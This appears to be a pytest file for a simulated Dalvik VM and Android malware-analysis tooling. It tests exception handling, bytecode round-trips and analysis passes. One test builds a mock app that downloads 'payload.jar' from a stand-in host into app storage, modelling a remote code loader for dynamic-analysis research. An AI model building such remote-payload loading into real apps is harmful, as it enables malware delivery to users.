"""Tests for try/catch support in the ISA, VM, and tool round-trips."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException, VMObject
from repro.runtime.vm import DalvikVM
from repro.static_analysis.smali_asm import assemble, disassemble

from tests.helpers import build_manifest


def run_method(body, arity=0, args=None, device=None):
    cls = class_builder("t.Try")
    builder = MethodBuilder("go", "t.Try", arity=arity, is_static=True)
    body(builder)
    cls.add_method(builder.build())
    vm = DalvikVM(device or Device(), Instrumentation())
    vm.load_dex(DexFile(classes=[cls]))
    return vm, vm.run_entry("t.Try", "go", list(args or []))


class TestTryCatch:
    def test_catch_thrown_exception(self):
        def body(b):
            b.try_start("handler")
            b.throw_new("java.lang.IllegalStateException")
            b.label("handler")
            caught = b.move_exception()
            b.ret(caught)

        _, result = run_method(body)
        assert isinstance(result, VMObject)
        assert result.class_name == "java.lang.IllegalStateException"

    def test_no_exception_skips_nothing_but_try_end_pops(self):
        def body(b):
            b.try_start("handler")
            value = b.new_int(5)
            b.try_end()
            b.ret(value)
            b.label("handler")
            b.ret(b.new_int(-1))

        _, result = run_method(body)
        assert result == 5

    def test_uncaught_class_propagates(self):
        def body(b):
            b.try_start("handler", "java.io.IOException")
            b.throw_new("java.lang.IllegalStateException")
            b.label("handler")
            b.ret(b.new_int(0))

        with pytest.raises(VMException) as excinfo:
            run_method(body)
        assert excinfo.value.class_name == "java.lang.IllegalStateException"

    def test_io_exception_family_matching(self):
        def body(b):
            b.try_start("handler", "java.io.IOException")
            url = b.new_instance_of("java.net.URL", b.new_string("http://dead.example/x"))
            b.call_virtual("java.net.URL", "openStream", url)
            b.ret(b.new_int(0))
            b.label("handler")
            b.ret(b.new_int(42))

        _, result = run_method(body)
        assert result == 42

    def test_exception_from_nested_call_caught(self):
        cls = class_builder("t.Nested")
        inner = MethodBuilder("boom", "t.Nested", is_static=True)
        inner.throw_new("java.lang.RuntimeException")
        cls.add_method(inner.build())
        outer = MethodBuilder("safe", "t.Nested", is_static=True)
        outer.try_start("h")
        outer.call_void("t.Nested", "boom")
        outer.label("h")
        outer.ret(outer.new_int(7))
        cls.add_method(outer.build())
        vm = DalvikVM(Device(), Instrumentation())
        vm.load_dex(DexFile(classes=[cls]))
        assert vm.run_entry("t.Nested", "safe", []) == 7

    def test_nested_try_unwinds_innermost_first(self):
        def body(b):
            b.try_start("outer")
            b.try_start("inner", "java.io.IOException")
            b.throw_new("java.lang.IllegalStateException")  # inner doesn't match
            b.label("inner")
            b.ret(b.new_int(1))
            b.label("outer")
            b.ret(b.new_int(2))

        _, result = run_method(body)
        assert result == 2

    def test_caught_exception_carries_message(self):
        def body(b):
            b.try_start("handler")
            url = b.new_instance_of("java.net.URL", b.new_string("not a url"))
            b.label("handler")
            caught = b.move_exception()
            b.ret(caught)

        _, result = run_method(body)
        assert result.class_name == "java.net.MalformedURLException"
        assert "not a url" in result.fields["message"]

    def test_graceful_remote_loader_app(self):
        """The realistic App_L shape: catch IOException around the fetch so
        the app survives when the server withholds the payload."""
        from repro.corpus.behaviors import emit_download_to_file
        from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions

        package = "com.graceful.app"
        activity = "{}.MainActivity".format(package)
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        b.try_start("offline", "java.io.IOException")
        emit_download_to_file(
            b, "http://cdn.example/payload.jar", "/data/data/{}/files/p.jar".format(package)
        )
        b.try_end()
        b.label("offline")
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])
        # no remote resource hosted: the fetch 404s, the app catches.
        report = AppExecutionEngine(EngineOptions()).run(apk)
        assert report.outcome is DynamicOutcome.EXERCISED


class TestToolingSupport:
    def _dex(self):
        cls = class_builder("t.RT")
        b = MethodBuilder("m", "t.RT", is_static=True)
        b.try_start("h", "java.io.IOException")
        b.new_int(1)
        b.try_end()
        b.ret_void()
        b.label("h")
        b.move_exception()
        b.ret_void()
        cls.add_method(b.build())
        return DexFile(classes=[cls])

    def test_serialization_round_trip(self):
        dex = self._dex()
        assert DexFile.from_bytes(dex.to_bytes()).to_bytes() == dex.to_bytes()

    def test_smali_round_trip(self):
        dex = self._dex()
        assert assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

    def test_mail_lifting_ignores_try_markers(self):
        from repro.static_analysis.malware.mail import MailKind, lift_dex_method

        method = self._dex().classes[0].methods[0]
        kinds = [s.kind for s in lift_dex_method(method)]
        # try-start/try-end lift to nothing; move-exception is an assign.
        assert kinds == [MailKind.ASSIGN, MailKind.HALT, MailKind.ASSIGN, MailKind.HALT]

    def test_acfg_handles_try_blocks(self):
        from repro.static_analysis.malware.acfg import acfg_for_dex_method, acfg_signature

        method = self._dex().classes[0].methods[0]
        graph = acfg_for_dex_method(method)
        assert acfg_signature(graph)  # hashes without error
